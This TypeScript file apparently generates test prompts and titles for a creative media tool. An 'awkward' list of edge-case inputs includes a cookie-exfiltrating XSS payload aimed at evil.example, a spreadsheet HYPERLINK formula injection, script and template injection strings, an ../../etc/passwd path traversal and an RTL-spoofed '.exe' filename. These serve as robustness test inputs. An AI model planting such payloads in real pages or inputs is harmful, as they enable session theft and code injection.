import type { Random } from './random.ts';

export interface Idea {
  prompt: string | null;
  title: string | null;
}

const subjects = [
  'a paper boat',
  'an old lighthouse keeper',
  'two foxes',
  'a red bicycle',
  'my grandmother’s kitchen',
  'a tram in Lisbon',
  'a sleeping dragon the size of a cat',
  'a brass orchestra',
  'the last bookshop',
  'a hot-air balloon',
  'a girl with a kite',
  'three sailing boats',
  'an astronaut tending tomatoes',
  'a snow-covered greenhouse',
  'a heron',
  'a night market',
] as const;

const deeds = [
  'crossing a rainy street',
  'waiting for the ferry',
  'under the northern lights',
  'at the edge of a quiet sea',
  'lit by one lamp',
  'in the first snow',
  'reflected in a puddle',
  'seen from a train window',
  'between tall buildings at dusk',
  'above the dunes',
] as const;

const manners = [
  'soft morning light, 35 mm',
  'gouache on rough paper',
  'slow dolly-in, shallow focus',
  'isometric, pastel colours',
  'Kodachrome, slightly faded',
  'woodcut, two inks',
  'handheld, light rain',
  'wide shot, long shadows',
  'claymation',
] as const;

const elsewhere: readonly Idea[] = [
  { prompt: 'قارب ورقي يعبر شارعًا ممطرًا عند الغروب', title: 'قارب ورقي' },
  { prompt: '霧の港に浮かぶ紙の船、朝の光、静かな水面', title: '紙の船' },
  { prompt: 'Бумажный кораблик плывёт по лужам старого двора', title: 'Кораблик' },
  { prompt: '비 오는 골목의 작은 종이배, 부드러운 빛', title: '종이배' },
  { prompt: 'Ein Papierboot im Regen, daneben große Füße in gelben Stiefeln', title: 'Papierboot im Regen' },
  { prompt: 'चाँदनी में झील पर तैरती कागज़ की नाव', title: 'कागज़ की नाव' },
  { prompt: 'Πλοίο από χαρτί στο Αιγαίο', title: 'Χάρτινο καράβι' },
];

/** What breaks careless tools: HTML, CSV, file names and plain length. */
const awkward: readonly Idea[] = [
  { prompt: 'family picnic 👨‍👩‍👧‍👦 by the sea 🏴‍☠️⛵', title: '👨‍👩‍👧‍👦⛵' },
  { prompt: 'שלט בעברית ליד english sign \u202eright to left\u202c', title: 'שלום \u202egnp.exe' },
  { prompt: 'she said "stop", then: \'go\', “now”', title: 'Say "cheese", please' },
  {
    prompt: '<img src=x onerror="fetch(\'https://evil.example/\'+document.cookie)"> a garden gate',
    title: '<img src=x onerror=alert(1)>',
  },
  { prompt: '=1+1', title: '=HYPERLINK("https://evil.example","click")' },
  { prompt: '@ada.boat, +1 please\n\nShot 2: the same boat, from above\n', title: '-1 boats' },
  {
    prompt:
      `${'A very long walk through a very small town, where every door is a different blue. '.repeat(74)}`.slice(
        0,
        6000,
      ),
    title: 'Long walk',
  },
  { prompt: '', title: '' },
  { prompt: null, title: null },
  { prompt: 'Cafe\u0301 Zu\u0308rich at dawn (decomposed letters)', title: 'Cafe\u0301 Zu\u0308rich' },
  { prompt: 'Café Zürich at dawn (composed letters)', title: 'Café Zürich' },
  { prompt: 'a device that never was', title: 'CON' },
  { prompt: 'a list of devices', title: 'aux.txt' },
  { prompt: 'a path that leads out', title: '../../etc/passwd' },
  { prompt: 'a path that leads to C', title: 'C:\\Windows\\system32' },
  { prompt: 'two boats, first', title: 'Two Boats' },
  { prompt: 'two boats, second', title: 'TWO BOATS' },
  { prompt: 'trailing dots and spaces', title: 'And then... . ' },
  { prompt: 'tabs\tand\u0000control\u0007characters\u2028in it', title: 'Bell\u0007' },
  { prompt: `${'船'.repeat(300)}`, title: '船'.repeat(120) },
  { prompt: 'a lone surrogate \ud83d at sea', title: 'half \udea2 emoji' },
  { prompt: '</script><script>alert(1)</script> and a teapot', title: '{{constructor.constructor("x")()}}' },
];

/** The idea of the `index`th task: mostly ordinary ones, every fifth awkward while they last, some in other scripts. */
export function ideaOf(index: number, random: Random): Idea {
  const special = index % 5 === 3 ? awkward[Math.floor(index / 5)] : undefined;
  if (special) return special;
  if (random.chance(0.15)) return random.pick(elsewhere);
  const subject = random.pick(subjects);
  const deed = random.pick(deeds);
  const title = `${subject} ${deed}`.replace(/^(a|an|the) /, '');
  return {
    prompt: `${subject} ${deed}, ${random.pick(manners)}`,
    title: title.charAt(0).toUpperCase() + title.slice(1),
  };
}
